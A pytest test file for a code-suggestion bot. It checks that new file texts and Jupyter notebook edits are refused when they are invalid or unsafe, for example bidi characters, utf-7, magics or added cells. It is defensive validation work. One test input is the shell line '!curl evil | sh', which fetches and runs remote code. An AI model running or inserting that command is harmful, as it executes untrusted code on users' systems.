"""New texts of files in a report: what is not taken, and how it is told whether they fit the old ones."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codeopt.bot.texts import patched
from codeopt.suggestion import unified_diff
from tests.bot.reports import (
    AFTER,
    BEFORE,
    CELLS,
    NOTEBOOK,
    Read,
    cell,
    changed,
    notebook,
    refusal,
    suggestion,
)  # fmt: skip


@pytest.mark.parametrize(
    ("after", "cause"),
    [
        (AFTER + "def (:\n", "is not Python"),
        (AFTER + "x = '\x00'\n", "U+0000"),
        (AFTER + "x = 1  # \u202e drow\n", "U+202E"),
        (AFTER + "pass\u200bword = 1\n", "U+200B"),
        (AFTER + "x = '\x1b[2J'\n", "U+001B"),
        ("# coding: utf-7\n" + AFTER, "encoding utf-7"),
        ("# coding: no-such\n" + AFTER, "is not Python"),
        (AFTER + "x = " + "-" * 50_000 + "1\n", "nested too deeply"),
        (BEFORE, "changes nothing"),
    ],
    ids=["syntax", "nul", "bidi", "zero width", "escape", "utf-7", "unknown encoding", "deep", "nothing"],
)
def test_new_texts_that_are_not_taken(read: Read, after: str, cause: str) -> None:
    assert cause in refusal(read, suggestion(after=after))


@pytest.mark.parametrize(
    ("cells", "cause"),
    [
        ([cell("markdown", ["# Other"]), *CELLS[1:]], "outside the source"),
        ([*CELLS, cell("code", ["import os"])], "outside the source"),
        ([*CELLS[:2], {**CELLS[2], "outputs": [{"data": "<script>"}]}], "outside the source"),
        ([*CELLS[:2], cell("code", ["print(z"])], "is not Python in cell 3"),
        ([*CELLS[:2], cell("code", ["print(z)\n", "!curl evil | sh"])], "magic or a shell command in cell 3"),
        ([CELLS[0], cell("code", ["%run evil\n", *CELLS[1]["source"][1:]]), CELLS[2]], "magic"),
        ([*CELLS[:2], cell("code", ["print(z)  # \u202e"])], "cell 3"),
    ],
    ids=["markdown", "new cell", "output", "syntax", "shell", "magic", "bidi"],
)  # fmt: skip
def test_new_notebooks_that_are_not_taken(read: Read, cells: list[dict[str, Any]], cause: str) -> None:
    assert cause in refusal(read, suggestion("nb.ipynb", NOTEBOOK, notebook(*cells)))


def test_a_diff_that_puts_back_what_it_takes(read: Read) -> None:
    diff = (
        "--- a/src/stats.py\n+++ b/src/stats.py\n@@ -1,1 +1,1 @@\n-import numpy as np\n+import numpy as np\n"
    )
    assert "changes nothing" in refusal(read, changed("diff", diff, suggestion(after=BEFORE)))


def test_a_notebook_that_is_none_any_more(read: Read) -> None:
    after = NOTEBOOK.replace('"nbformat": 4', '"nbformat": 3')
    assert "is not a notebook" in refusal(read, suggestion("nb.ipynb", NOTEBOOK, after))


LINES = st.lists(st.text("ab\\ +-@\x0c\r\t ", max_size=4), max_size=12)
ENDED = st.sampled_from(["", "\n"])


@settings(max_examples=300)
@given(LINES, LINES, ENDED, ENDED)
def test_a_diff_put_into_its_old_text_gives_the_new_one(
    old: list[str], new: list[str], end: str, other_end: str
) -> None:
    before, after = "\n".join(old) + end, "\n".join(new) + other_end
    if before != after:
        assert patched("a.py", before, unified_diff("a.py", before, after)) == after


@settings(max_examples=300)
@given(LINES, st.text("ab\\ +-@,0123\n", max_size=60))
def test_a_diff_of_anybodys_ends_in_a_text_or_none(old: list[str], diff: str) -> None:
    found = patched("a.py", "\n".join(old), f"--- a/a.py\n+++ b/a.py\n{diff}")
    assert found is None or isinstance(found, str)
